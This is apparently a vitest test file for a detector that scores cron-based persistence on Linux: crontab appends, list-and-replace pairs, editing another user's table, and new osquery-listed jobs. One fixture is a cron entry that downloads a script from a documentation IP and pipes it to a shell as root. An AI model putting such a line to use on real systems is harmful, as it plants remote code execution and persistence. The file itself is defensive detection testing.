import { describe, expect, test } from 'vitest';
import { hours, seconds } from '../../src/core/duration.ts';
import type { ProcessEvent } from '../../src/core/event.ts';
import { appended, scoresOf } from './cron-alerts.ts';
import { auditedFile, crontabLine, listedJob, started } from './linux-events.ts';

const scores = (...args: Parameters<typeof appended>) => scoresOf(appended(...args));
const line = (verb: string, atMs = 0, more = {}) =>
  crontabLine('root', verb, 'root', { atMs, ...more });
const crontab = (words: string, more: Partial<ProcessEvent> & { readonly atMs?: number } = {}) =>
  started('/usr/bin/crontab', `crontab ${words}`, { parentPid: 40, ...more });

describe('X1, a command line that writes a table', () => {
  const append = started('/usr/bin/dash', 'sh -c echo "@daily root x" >> /etc/crontab');

  test('can be switched off', () => {
    expect(scores([append])).toEqual([35]);
    expect(scores([append], { extended: { x1: false } })).toEqual([]);
    expect(scores([append], { extended: {} })).toEqual([35]);
  });
});

describe('X2, a table that crontab lists and puts back', () => {
  const listed = crontab('-l', { pid: 41 });
  const put = (atMs: number, more = {}) => crontab('/root/jobs', { pid: 42, atMs, ...more });

  test('is told by two programs of one parent within five seconds', () => {
    const [alert, ...more] = appended([listed, put(1)]);
    expect(more).toEqual([]);
    expect(alert).toMatchObject({
      score: 35,
      tier: 'extended',
      details: { tableUser: 'root', fileOp: 'replace', isPiped: true },
    });
    expect(scores([listed, put(seconds(5))])).toEqual([35]);
    expect(scores([listed, put(seconds(5) + 1)])).toEqual([]);
    expect(scores([listed, put(-1)])).toEqual([]);
  });

  test('is not told of other parents, accounts or tables, nor of one half', () => {
    expect(scores([listed, put(1, { parentPid: 50 })])).toEqual([]);
    expect(scores([{ ...listed, parentPid: undefined }, put(1, { parentPid: undefined })])).toEqual(
      [],
    );
    expect(scores([listed, put(1, { user: 'alice' })])).toEqual([]);
    expect(scores([listed])).toEqual([]);
    expect(scores([put(1)])).toEqual([]);
    expect(scores([crontab('-l -u oracle', { pid: 41 }), put(1)])).toEqual([]);
    expect(scores([listed, crontab('-e', { pid: 42, atMs: 1 })])).toEqual([]);
  });

  test('is one alert with the line of syslog, which it says more of', () => {
    const of = (gapMs: number) => appended([line('LIST'), line('REPLACE', gapMs)])[0]?.details;
    expect(of(seconds(5))?.['isPiped']).toBe(true);
    expect(of(seconds(5) + 1)?.['isPiped']).toBeUndefined();
    expect(scores([line('LIST'), line('REPLACE', 1)])).toEqual([50]);
    expect(appended([line('LIST')])).toEqual([]);
    expect(scores([listed, put(1), line('REPLACE', 2)])).toEqual([50]);
  });

  test('can be switched off', () => {
    const extended = { x2: false };
    expect(scores([listed, put(1)], { extended })).toEqual([]);
    const [alert] = appended([line('LIST'), line('REPLACE', 1)], { extended });
    expect([alert?.score, alert?.count]).toEqual([50, 1]);
  });
});

describe('X3, an editor of crontab', () => {
  const begun = (atMs: number, more = {}) =>
    crontabLine('alice', 'BEGIN EDIT', 'alice', { atMs, ...more });
  const saved = crontabLine('alice', 'REPLACE', 'alice');

  test('lowers what people do to their own tables', () => {
    expect(scores([saved])).toEqual([40]);
    const [alert] = appended([begun(-seconds(300)), saved]);
    expect(alert).toMatchObject({ score: 20, severity: 'low', details: { isEdited: true } });
    expect(scores([line('BEGIN EDIT', -1), line('REPLACE')])).toEqual([30]);
  });

  test('is the same process, within a day', () => {
    // So long a log would make the table new, which the other alert tells.
    const later = (atMs: number) => scores([begun(atMs), saved], { firstTableWarmupHours: 99 });
    expect(later(-hours(24) + 1)).toEqual([20]);
    expect(later(-hours(24))).toEqual([20]);
    expect(later(-hours(24) - 1)).toEqual([40]);
    expect(scores([begun(-1, { pid: 9 }), saved])).toEqual([40]);
    expect(scores([begun(-1, { host: 'web02' }), saved])).toEqual([40]);
  });

  test('raises what one does to the table of another, and knows no services at an editor', () => {
    const edit = (verb: string, user: string, table: string, atMs: number) =>
      crontabLine(user, verb, table, { atMs });
    const session = (user: string, table: string) => [
      edit('BEGIN EDIT', user, table, -1),
      edit('REPLACE', user, table, 0),
      edit('END EDIT', user, table, 1),
    ];
    expect(scores(session('root', 'oracle'))).toEqual([60]);
    expect(scores(session('nobody', 'nobody'))).toEqual([75]);
  });

  test('says nothing where nothing was saved', () => {
    expect(appended([begun(-1), crontabLine('alice', 'END EDIT', 'alice')])).toEqual([]);
  });

  test('can be switched off', () => {
    const [alert] = appended([begun(-1), saved], { extended: { x3: false } });
    expect([alert?.score, alert?.details['isEdited']]).toEqual([40, undefined]);
  });
});

describe('X4, a job that osquery lists anew', () => {
  test('is told with its line, and what it is worth', () => {
    const [alert] = appended([
      listedJob('added', { command: 'root curl http://203.0.113.9/k|sh' }),
    ]);
    expect(alert).toMatchObject({
      score: 95,
      tier: 'extended',
      details: { cronEntry: '* * * * * root curl http://203.0.113.9/k|sh', fileOp: 'write' },
    });
    const spool = { path: '/var/spool/cron/crontabs/alice', minute: '5', command: '/bin/true' };
    expect(scores([listedJob('added', spool)])).toEqual([40]);
  });

  test('is one alert with the file within ten seconds, and none of a new file', () => {
    const path = '/etc/crontab';
    const write = (atMs: number) => auditedFile(path, { op: 'write', access: 'append', atMs });
    const [alert, ...more] = appended([write(-seconds(10)), listedJob('added')]);
    expect([alert?.details['fileOp'], alert?.details['cronEntry'], more]).toEqual([
      'append',
      '* * * * * root /tmp/x',
      [],
    ]);
    expect(appended([write(-seconds(10) - 1), listedJob('added')])).toHaveLength(2);
    const job = '/etc/cron.d/job';
    expect(appended([auditedFile(job), listedJob('added', { path: job }, 1)])).toEqual([]);
  });

  test('is not told of the first run, of rows that went, or when switched off', () => {
    expect(scores([listedJob('added', { counter: '0' })])).toEqual([]);
    expect(scores([listedJob('removed')])).toEqual([]);
    expect(scores([listedJob('added')], { extended: { x4: false } })).toEqual([]);
  });
});

test('a root of a container counts here as well', () => {
  const merged = `/var/lib/docker/overlay2/${'a'.repeat(64)}/merged`;
  const event = auditedFile(`${merged}/etc/cron.d/job`, { op: 'write', access: 'append' });
  expect(scores([event])).toEqual([50]);
});
